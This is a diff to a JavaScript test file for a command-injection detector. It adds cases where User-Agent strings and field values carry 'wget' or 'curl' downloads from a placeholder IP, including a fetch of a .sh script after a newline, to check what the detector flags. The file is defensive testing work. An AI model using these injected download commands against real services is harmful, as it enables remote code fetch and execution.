@@ -139,7 +139,11 @@ describe('command injection', () => {
     // Nmap's scripts send this User-Agent on every request: `; Nmap` is a comment item, not a command.
     const nse = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
     assert.equal(detectCommandInjection(nse, true), null);
-    assert.equal(detectCommandInjection('Mozilla/5.0 (compatible; Wget http://x; curl/8.5)', true), null);
+    assert.equal(detectCommandInjection('Mozilla/5.0 (compatible; Wget/1.21; curl/8.5)', true), null);
+    // A downloader with a URL is shell-like even inside a comment, and after a newline.
+    assert.equal(detectCommandInjection('Mozilla/5.0 (compatible; wget http://198.51.100.7/x -O /tmp/x)', true), '; then wget');
+    assert.equal(detectCommandInjection('x\ncurl https://198.51.100.7/a.sh'), 'newline then curl');
+    assert.equal(detectCommandInjection('line one\ncurl is a tool, see https://curl.se'), null);
     // Read as any other field's value it is a separator and a command.
     assert.equal(detectCommandInjection(nse), '; then nmap');
     // Inside a comment a command with shell arguments still counts; outside one, any command does.
